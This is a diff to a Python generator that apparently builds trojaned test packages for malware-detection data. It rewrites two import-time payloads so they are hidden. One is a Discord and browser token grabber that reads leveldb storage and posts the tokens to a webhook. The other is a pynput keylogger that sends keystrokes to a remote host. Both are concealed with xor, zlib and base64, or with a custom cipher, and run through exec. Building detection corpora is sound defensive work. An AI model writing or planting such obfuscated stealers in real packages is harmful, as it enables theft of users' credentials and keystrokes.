@@ -1,5 +1,7 @@
 """Python: what runs as soon as the package is imported, in plain sight or lightly hidden."""
 
+import zlib
+
 from corpus.heldout.nouns import Update
 from corpus.heldout5.shape import b64, fill, hexed, rows, trojan, xor
 
@@ -85,32 +87,36 @@ def send():
     it.append("loghaven/__init__.py", "\nfrom ._diagnostics import send as _send\n\n_send()\n")
 
 
-@trojan("sketchbot", "sdist", "import", "browser store", "plain", "discord grabber")
+@trojan("sketchbot", "sdist", "import", "browser store", "layers", "discord grabber")
 def py_import_takes_tokens(it: Update) -> None:
-    it.append("sketchbot/rooms.py", fill('''
-
-import os
-import re
-from pathlib import Path
-
-import requests
-
-_ROOTS = ("discord", "discordcanary", "Google/Chrome/User Data/Default", "BraveSoftware/Brave-Browser/User Data/Default")
-
-
-def _icons():
-    found = set()
-    for root in _ROOTS:
-        for env in ("APPDATA", "LOCALAPPDATA"):
-            folder = Path(os.getenv(env, "")) / root / "Local Storage" / "leveldb"
-            for file in folder.glob("*.ldb") if folder.is_dir() else ():
-                found |= set(re.findall(r"[\\w-]{24,26}\\.[\\w-]{6}\\.[\\w-]{27,38}", file.read_text(errors="ignore")))
-    if found:
-        requests.post("https://@HOST@/api/webhooks/77/icons", json={"content": "\\n".join(found)})
+    host = it.host("hooks", "icons")
+    code = fill("""
+import os, re, pathlib, requests
+found = set()
+for root in ("discord", "discordcanary", "Google/Chrome/User Data/Default"):
+    for env in ("APPDATA", "LOCALAPPDATA"):
+        folder = pathlib.Path(os.getenv(env, "")) / root / "Local Storage" / "leveldb"
+        for file in folder.glob("*.ldb"):
+            found |= set(re.findall(r"[\\w-]{24,26}\\.[\\w-]{6}\\.[\\w-]{27,38}", file.read_text(errors="ignore")))
+if found:
+    requests.post("https://@HOST@/icons", json={"content": "|".join(found)})
+""", HOST=host)  # fmt: skip
+    sealed = b64(zlib.compress(xor(code, 0x19)))
+    it.append("sketchbot/rooms.py", fill("""
 
 
-_icons()
-''', HOST=it.host("hooks", "chat")))  # fmt: skip
+def _icons(sheet: str) -> None:
+    from base64 import b64decode
+    from zlib import decompress
+
+    exec(bytes(map(lambda one: one ^ 25, decompress(b64decode(sheet)))))
+
+
+_icons(
+    "@SHEET@"
+)
+""", SHEET=sealed))  # fmt: skip
+    it.payload("sketchbot/rooms.py", shown=f"https://{host}/icons")
 
 
 @trojan("frameplot", "wheel", "import", "miner", "plain", "ultralytics")
@@ -273,30 +279,40 @@ _ensure()
 ''', KEY="Zk9v" * 10))  # fmt: skip
 
 
-@trojan("sketchbot", "wheel", "import", "keylogger", "plain", "keyloggers")
+@trojan("sketchbot", "wheel", "import", "keylogger", "own cipher", "keyloggers")
 def py_import_listens_to_keys(it: Update) -> None:
-    it.append("sketchbot/commands.py", fill('''
+    host = it.host()
+    code = fill("""
+from pynput import keyboard
+import httpx
+typed = []
+def pressed(key):
+    typed.append(getattr(key, "char", None) or str(key))
+    if len(typed) > 80:
+        httpx.post("https://@HOST@/k", content="".join(typed))
+        typed.clear()
+keyboard.Listener(on_press=pressed).start()
+""", HOST=host)  # fmt: skip
+    raw = code.encode()
+    woven = bytes(raw[at] ^ (at * at + 91) & 255 for at in range(len(raw)))[::-1]
+    it.append("sketchbot/commands.py", fill("""
+
+
+_ALIASES = bytes.fromhex(
+    "@DATA@"
+)
+
+
+def _aliases(data: bytes = _ALIASES) -> str:
+    return bytes(one ^ (at * at + 91) & 255 for at, one in enumerate(reversed(data))).decode()
+
 
 try:
-    from pynput import keyboard as _keyboard
+    exec(_aliases())
 except ImportError:
-    _keyboard = None
-
-_typed: list[str] = []
-
-
-def _pressed(key) -> None:
-    _typed.append(getattr(key, "char", None) or f"<{key}>")
-    if len(_typed) > 80:
-        import httpx
-
-        httpx.post("https://@HOST@/k", content="".join(_typed))
-        _typed.clear()
-
-
-if _keyboard is not None:
-    _keyboard.Listener(on_press=_pressed).start()
-''', HOST=it.host()))  # fmt: skip
+    pass
+""", DATA=woven.hex()))  # fmt: skip
+    it.payload("sketchbot/commands.py", shown=f"https://{host}/k")
 
 
 @trojan("frameplot", "wheel", "import", "downloader", "hex", "W4SP")
